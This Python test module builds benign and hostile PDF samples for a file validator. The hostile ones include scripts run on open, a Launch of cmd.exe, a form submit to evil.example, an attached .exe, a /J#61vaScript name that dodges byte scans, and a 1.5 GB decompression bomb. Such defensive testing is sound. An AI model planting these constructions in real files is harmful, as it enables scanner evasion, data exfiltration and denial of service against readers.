"""PDF, honest and hostile."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable
from functools import partial
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name

from motcua.files.rules.faults import Fault
from motcua.files.rules.kinds import Kind
from tests.files.corpus.sample import MEGABYTE, Sample


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, pages: int = 1, **save: Any) -> bytes:
    with pikepdf.new() as document:
        for _ in range(pages):
            document.add_blank_page()
        if change is not None:
            change(document)
        out = io.BytesIO()
        document.save(out, **save)
    return out.getvalue()


def opens_with(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = document.make_indirect(action)

    return change


def annotated(annotation: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.pages[0].Annots = Array([annotation])

    return change


def _attach(document: pikepdf.Pdf) -> None:
    document.attachments["kem.exe"] = pikepdf.AttachedFileSpec(document, b"MZ", filename="kem.exe")


def _named_script(document: pikepdf.Pdf) -> None:
    script = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", script])))


def _orphan_script(document: pikepdf.Pdf) -> None:
    """Nothing points to it now; an update of a few bytes could."""
    document.Root.Hidden = document.make_indirect(Dictionary(S=Name.JavaScript, JS="1"))


def _xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp/>"))


def _page_script(document: pikepdf.Pdf) -> None:
    document.pages[0].AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS="1"))


def _plain_links(document: pikepdf.Pdf) -> None:
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 0, 9, 9]),
        A=Dictionary(S=Name.URI, URI="https://dichvucong.gov.vn"),
    )
    document.pages[0].Annots = Array([link])
    document.Root.OpenAction = Array([document.pages[0].obj, Name.Fit])


def escaped_name_pdf() -> bytes:
    """/J#61vaScript is /JavaScript to a reader of PDF, and not to who searches the bytes."""
    return pdf(_orphan_script).replace(b"/JavaScript", b"/J#61vaScript")


def broken_xref_pdf() -> bytes:
    whole = pdf()
    return whole[: whole.rindex(b"startxref")] + b"startxref\n7\n%%EOF"


def plain_pdf(objects: list[bytes]) -> bytes:
    """A PDF put together by hand: object 1 is the catalogue."""
    out, places = bytearray(b"%PDF-1.4\n"), []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj%sendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    start = len(out)
    size = len(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table)
    out += b"trailer<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF" % (size, start)
    return bytes(out)


_PAGES = [
    b"<</Type/Catalog/Pages 2 0 R>>",
    b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
]


def many_objects_pdf() -> bytes:
    return plain_pdf(_PAGES + [b"<</N 1>>"] * 101_000)


def deep_pdf() -> bytes:
    return plain_pdf([*_PAGES, b"[" * 300 + b"]" * 300])


def looping_pages_pdf() -> bytes:
    return plain_pdf([_PAGES[0], b"<</Type/Pages/Kids[2 0 R]/Count 1>>"])


def stream_bomb_pdf() -> bytes:
    """The catalogue in an object stream that unpacks to 1.5 GB, in 1.5 MB."""
    text = b"1 0 " + _PAGES[0]
    squeeze = zlib.compressobj(9)
    packed = squeeze.compress(text) + squeeze.flush(zlib.Z_FULL_FLUSH)
    blank = squeeze.compress(b" " * MEGABYTE) + squeeze.flush(zlib.Z_FULL_FLUSH)
    packed += blank * 1500 + squeeze.flush()
    out, rows = bytearray(b"%PDF-1.5\n"), [(0, 0, 255), (2, 4, 0)]
    for number, content in enumerate(_PAGES[1:], start=2):
        rows.append((1, len(out), 0))
        out += b"%d 0 obj%sendobj\n" % (number, content)
    rows.append((1, len(out), 0))
    length = len(packed)
    out += b"4 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % length
    out += packed + b"\nendstream endobj\n"
    rows.append((1, len(out), 0))
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    out += b"5 0 obj<</Type/XRef/Size 6/W[1 4 1]/Root 1 0 R/Length %d>>stream\n" % len(table)
    out += table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % rows[5][1]
    return bytes(out)


_LAUNCH = Dictionary(S=Name.Launch, F="cmd.exe")
_SCRIPT = Dictionary(S=Name.JavaScript, JS="app.alert(1)")


SAMPLES = [
    Sample("PDF of one page", "don.pdf", pdf, kind=Kind.PDF, pages=1),
    Sample("PDF of 300 pages", "so.pdf", partial(pdf, pages=300), kind=Kind.PDF, pages=300),
    Sample(
        "PDF in object streams",
        "a.pdf",
        partial(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        kind=Kind.PDF,
        pages=1,
    ),
    Sample(
        "PDF with links and a start page",
        "a.pdf",
        partial(pdf, _plain_links),
        kind=Kind.PDF,
        pages=1,
    ),
    Sample(
        "PDF whose table is broken but read by all",
        "a.pdf",
        broken_xref_pdf,
        kind=Kind.PDF,
        pages=1,
    ),
    Sample(
        "PDF with bytes after its end",
        "a.pdf",
        lambda: pdf() + b"\n% ky so\n",
        kind=Kind.PDF,
        pages=1,
    ),
    Sample(
        "PDF with a password",
        "a.pdf",
        partial(pdf, encryption=pikepdf.Encryption(owner="o", user="u")),
        Fault.ENCRYPTED,
    ),
    Sample(
        "PDF that may not be printed",
        "a.pdf",
        partial(pdf, encryption=pikepdf.Encryption(owner="o", user="")),
        Fault.ENCRYPTED,
    ),
    Sample(
        "PDF that runs a script when opened",
        "a.pdf",
        partial(pdf, opens_with(_SCRIPT)),
        Fault.SCRIPT,
    ),
    Sample("PDF with a named script", "a.pdf", partial(pdf, _named_script), Fault.SCRIPT),
    Sample("PDF with a script on a page", "a.pdf", partial(pdf, _page_script), Fault.SCRIPT),
    Sample(
        "PDF with a script nobody calls yet", "a.pdf", partial(pdf, _orphan_script), Fault.SCRIPT
    ),
    Sample("PDF that spells its script in another way", "a.pdf", escaped_name_pdf, Fault.SCRIPT),
    Sample("PDF that starts a program", "a.pdf", partial(pdf, opens_with(_LAUNCH)), Fault.LAUNCH),
    Sample(
        "PDF that sends its form away",
        "a.pdf",
        partial(pdf, opens_with(Dictionary(S=Name.SubmitForm, F="http://evil.example"))),
        Fault.LAUNCH,
    ),
    Sample(
        "PDF that opens another within",
        "a.pdf",
        partial(pdf, opens_with(Dictionary(S=Name.GoToE))),
        Fault.LAUNCH,
    ),
    Sample("PDF with a file attached", "a.pdf", partial(pdf, _attach), Fault.EMBEDDED_FILE),
    Sample(
        "PDF with a file pinned to a page",
        "a.pdf",
        partial(
            pdf,
            annotated(
                Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]))
            ),
        ),
        Fault.EMBEDDED_FILE,
    ),
    Sample(
        "PDF with a film",
        "a.pdf",
        partial(
            pdf,
            annotated(
                Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))
            ),
        ),
        Fault.EMBEDDED_FILE,
    ),
    Sample("PDF with a moving form", "a.pdf", partial(pdf, _xfa), Fault.XFA),
    Sample("PDF of 2,001 pages", "a.pdf", partial(pdf, pages=2001), Fault.TOO_MANY_PAGES),
    Sample("PDF without pages", "a.pdf", partial(pdf, pages=0), Fault.DAMAGED),
    Sample("head of a PDF only", "a.pdf", lambda: b"%PDF-1.7\n", Fault.DAMAGED),
    Sample(
        "noise after the head of a PDF",
        "a.pdf",
        lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40,
        Fault.DAMAGED,
    ),
    Sample("PDF with 101,000 objects", "a.pdf", many_objects_pdf, Fault.TOO_COMPLEX),
    Sample("PDF nested 300 deep", "a.pdf", deep_pdf, Fault.TOO_COMPLEX),
    Sample("PDF whose pages go in a circle", "a.pdf", looping_pages_pdf, Fault.DAMAGED),
    Sample("PDF that unpacks to 1.5 GB", "a.pdf", stream_bomb_pdf, Fault.DAMAGED),
]
